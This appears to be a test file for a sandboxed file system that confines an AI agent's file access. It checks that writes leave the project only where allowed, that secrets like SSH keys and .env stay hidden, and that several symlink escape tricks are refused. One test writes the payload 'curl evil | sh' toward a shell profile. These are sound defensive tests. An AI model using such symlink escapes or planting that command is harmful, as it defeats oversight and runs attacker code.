import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { nodeFileSystem } from "../files/node-file-system.js";
import { HIDDEN_MESSAGE, OUTSIDE_MESSAGE, sandboxedFileSystem } from "./sandboxed-file-system.js";

const roots: string[] = [];
afterAll(() => {
  for (const root of roots) rmSync(root, { recursive: true, force: true });
});

/** A project, home, writable cache and elsewhere under `parent`: outside /tmp unless asked, since /tmp is the sandbox's own. */
const world = (parent = "/var/tmp") => {
  const root = mkdtempSync(join(parent, "mm-sandboxed-fs-"));
  roots.push(root);
  const dirs = {
    cwd: join(root, "project"),
    home: join(root, "home"),
    cache: join(root, "cache"),
    privateTmp: join(root, "room/tmp"),
    other: join(root, "other"),
  };
  for (const dir of Object.values(dirs)) mkdirSync(dir, { recursive: true });
  mkdirSync(join(dirs.home, ".ssh"));
  writeFileSync(join(dirs.home, ".ssh/id_rsa"), "SECRET");
  writeFileSync(join(dirs.cwd, ".env"), "TOKEN=1");
  writeFileSync(join(dirs.other, "notes.txt"), "readable");
  let cwd: string | undefined = dirs.cwd;
  const fs = sandboxedFileSystem(nodeFileSystem(), {
    settings: { home: dirs.home, writable: [dirs.cache], network: false, hidden: [".env"] },
    privateTmp: dirs.privateTmp,
    cwd: () => cwd,
  });
  return { fs, dirs, forgetCwd: () => (cwd = undefined) };
};

const refusal = (message: string, path: string) => ({ kind: "io", path, message });

describe("sandboxedFileSystem", () => {
  it("writes inside the cwd and the writable dirs, and reads anything not hidden", async () => {
    const { fs, dirs } = world();
    expect((await fs.writeText(join(dirs.cwd, "a/b.txt"), "x")).isOk()).toBe(true);
    expect((await fs.writeText(join(dirs.cache, "c.txt"), "y")).isOk()).toBe(true);
    expect(readFileSync(join(dirs.cwd, "a/b.txt"), "utf8")).toBe("x");
    expect((await fs.readText(join(dirs.other, "notes.txt")))._unsafeUnwrap()).toBe("readable");
  });

  it("refuses writes elsewhere, the home included, with a message the model can act on", async () => {
    const { fs, dirs } = world();
    for (const path of [join(dirs.home, "x"), join(dirs.other, "notes.txt"), "/etc/mm-sandbox-test"]) {
      expect((await fs.writeText(path, "no"))._unsafeUnwrapErr()).toEqual(refusal(OUTSIDE_MESSAGE, path));
    }
    expect(readFileSync(join(dirs.other, "notes.txt"), "utf8")).toBe("readable");
  });

  it("refuses reads, stats and writes of hidden paths: the built-in ones and tools.hidden relative to the cwd", async () => {
    const { fs, dirs } = world();
    const key = join(dirs.home, ".ssh/id_rsa");
    expect((await fs.readText(key))._unsafeUnwrapErr()).toEqual(refusal(HIDDEN_MESSAGE, key));
    expect((await fs.stat(join(dirs.home, ".ssh")))._unsafeUnwrapErr().kind).toBe("io");
    const env = join(dirs.cwd, ".env");
    expect((await fs.readText(env))._unsafeUnwrapErr()).toEqual(refusal(HIDDEN_MESSAGE, env));
    expect((await fs.writeText(env, "TOKEN=2"))._unsafeUnwrapErr()).toEqual(refusal(HIDDEN_MESSAGE, env));
    expect(readFileSync(env, "utf8")).toBe("TOKEN=1");
  });

  it("follows links before deciding: a link in the project leads neither a write out nor a read into a secret", async () => {
    const { fs, dirs } = world();
    symlinkSync(dirs.other, join(dirs.cwd, "out"));
    symlinkSync(join(dirs.home, ".ssh"), join(dirs.cwd, "keys"));
    expect((await fs.writeText(join(dirs.cwd, "out/notes.txt"), "no"))._unsafeUnwrapErr().kind).toBe("io");
    expect(readFileSync(join(dirs.other, "notes.txt"), "utf8")).toBe("readable");
    expect((await fs.readText(join(dirs.cwd, "keys/id_rsa")))._unsafeUnwrapErr()).toEqual(refusal(HIDDEN_MESSAGE, join(dirs.cwd, "keys/id_rsa")));
  });

  it("sees /tmp as commands do: the sandbox's private directory, through which the cwd, writable dirs and home show", async () => {
    const { fs, dirs } = world(tmpdir());
    const name = `mm-sandboxed-fs-${process.pid}.txt`;
    expect((await fs.writeText(`/tmp/${name}`, "private")).isOk()).toBe(true);
    expect(readFileSync(join(dirs.privateTmp, name), "utf8")).toBe("private");
    expect((await fs.readText(`/tmp/${name}`))._unsafeUnwrap()).toBe("private");
    expect((await fs.readText(join(dirs.other, "notes.txt")))._unsafeUnwrapErr().kind).toBe("not-found");
    expect((await fs.writeText(join(dirs.cwd, "in-project.txt"), "x")).isOk()).toBe(true);
    expect(readFileSync(join(dirs.cwd, "in-project.txt"), "utf8")).toBe("x");
    expect((await fs.writeText(join(dirs.home, "x"), "no"))._unsafeUnwrapErr()).toEqual(refusal(OUTSIDE_MESSAGE, join(dirs.home, "x")));
    const key = join(dirs.home, ".ssh/id_rsa");
    expect((await fs.readText(key))._unsafeUnwrapErr()).toEqual(refusal(HIDDEN_MESSAGE, key));
  });

  it("before the session's cwd is known, writes only to /tmp and tools.writable", async () => {
    const { fs, dirs, forgetCwd } = world();
    forgetCwd();
    expect((await fs.writeText(join(dirs.cwd, "x"), "no")).isErr()).toBe(true);
    expect((await fs.writeText(join(dirs.cache, "x"), "yes")).isOk()).toBe(true);
  });
});

// Attacks of issue 27: each failed on the code before (the path check resolved a dangling link to
// `<cwd>/link`, and the open followed it; a link to /tmp/x was followed into the host's /tmp).
describe("sandboxedFileSystem and links a command planted", () => {
  it("refuses a write through a dangling link to a file outside the boundary, and creates nothing", async () => {
    const { fs, dirs } = world();
    symlinkSync(join(dirs.home, ".bash_profile"), join(dirs.cwd, "notes.txt"));
    const written = await fs.writeText(join(dirs.cwd, "notes.txt"), "curl evil | sh");
    expect(written._unsafeUnwrapErr()).toMatchObject({ kind: "io", message: expect.stringContaining("symbolic link to a file that does not exist") });
    expect(() => readFileSync(join(dirs.home, ".bash_profile"))).toThrow();
  });

  it("refuses a write through a dangling link even when its target would be inside the cwd", async () => {
    const { fs, dirs } = world();
    symlinkSync(join(dirs.cwd, "later.txt"), join(dirs.cwd, "link"));
    expect((await fs.writeText(join(dirs.cwd, "link"), "x")).isErr()).toBe(true);
  });

  it("follows a link to /tmp into the sandbox's private /tmp, never the host's", async () => {
    const { fs, dirs } = world();
    const hostSecret = mkdtempSync(join(tmpdir(), "mm-host-tmp-"));
    roots.push(hostSecret);
    writeFileSync(join(hostSecret, "secret.txt"), "HOST ONLY");
    mkdirSync(join(dirs.privateTmp, hostSecret.slice("/tmp/".length)), { recursive: true });
    writeFileSync(join(dirs.privateTmp, hostSecret.slice("/tmp/".length), "secret.txt"), "private copy");
    symlinkSync(join(hostSecret, "secret.txt"), join(dirs.cwd, "peek"));
    expect((await fs.readText(join(dirs.cwd, "peek")))._unsafeUnwrap()).toBe("private copy");
  });

  it("climbs a relative link in the private /tmp as the sandbox would, never into the host's /tmp", async () => {
    const { fs, dirs } = world("/tmp");
    const hostSecret = mkdtempSync(join(tmpdir(), "mm-host-tmp-"));
    roots.push(hostSecret);
    writeFileSync(join(hostSecret, "secret.txt"), "HOST ONLY");
    const name = hostSecret.slice("/tmp/".length);
    mkdirSync(join(dirs.privateTmp, name), { recursive: true });
    writeFileSync(join(dirs.privateTmp, name, "secret.txt"), "private copy");
    // In the sandbox /tmp/up is /; on the host, the private /tmp's ../../.. is the host's /tmp.
    symlinkSync("../../..", join(dirs.privateTmp, "up"));
    expect((await fs.readText(`/tmp/up/${name}/secret.txt`)).isErr()).toBe(true);
    expect((await fs.readText(`/tmp/up/tmp/${name}/secret.txt`))._unsafeUnwrap()).toBe("private copy");
  });

  it("follows a link a command put in place of the project's parent in the private /tmp, hidden paths still hidden", async () => {
    const { fs, dirs } = world("/tmp");
    // The project's parent, as the sandbox sees it, swapped for a link to the home (mv it; ln -s ~ it).
    const parent = join("/tmp", dirs.cwd.slice("/tmp/".length).split("/")[0]!);
    symlinkSync(dirs.home, join(dirs.privateTmp, parent.slice("/tmp/".length)));
    // In the sandbox the link loops (the home is reached through it); the old walk read the key.
    const read = await fs.readText(join(parent, ".ssh/id_rsa"));
    expect(read._unsafeUnwrapErr()).toMatchObject({ kind: "io", message: "too many levels of symbolic links" });
  });

  it.each(["/var/tmp", "/tmp"])("writes through a link inside the boundary to its target (project under %s)", async (parent) => {
    const { fs, dirs } = world(parent);
    writeFileSync(join(dirs.cwd, "real.txt"), "old");
    symlinkSync("real.txt", join(dirs.cwd, "alias.txt"));
    expect((await fs.realPath?.(join(dirs.cwd, "alias.txt")))?._unsafeUnwrap()).toBe(join(dirs.cwd, "real.txt"));
    expect((await fs.writeText(join(dirs.cwd, "alias.txt"), "new")).isOk()).toBe(true);
    expect(readFileSync(join(dirs.cwd, "real.txt"), "utf8")).toBe("new");
  });

  it("refuses a write through a link that leads out of the boundary", async () => {
    const { fs, dirs } = world();
    writeFileSync(join(dirs.other, "target.txt"), "keep");
    symlinkSync(join(dirs.other, "target.txt"), join(dirs.cwd, "out.txt"));
    expect((await fs.writeText(join(dirs.cwd, "out.txt"), "x"))._unsafeUnwrapErr()).toMatchObject({ message: OUTSIDE_MESSAGE });
    expect(readFileSync(join(dirs.other, "target.txt"), "utf8")).toBe("keep");
  });
});

// Issue 27: `model.vision` images never reached the model under the sandbox (the confined file system
// had no readBytes, so read_file said "binary file, not shown").
describe("sandboxedFileSystem.readBytes", () => {
  it("reads bytes within the boundary and refuses hidden paths", async () => {
    const { fs, dirs } = world();
    writeFileSync(join(dirs.cwd, "pixel.png"), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1]));
    expect(fs.readBytes).toBeDefined();
    expect([...(await fs.readBytes!(join(dirs.cwd, "pixel.png")))._unsafeUnwrap()]).toEqual([0x89, 0x50, 0x4e, 0x47, 0, 1]);
    expect((await fs.readBytes!(join(dirs.home, ".ssh/id_rsa")))._unsafeUnwrapErr()).toMatchObject({ message: HIDDEN_MESSAGE });
  });
});
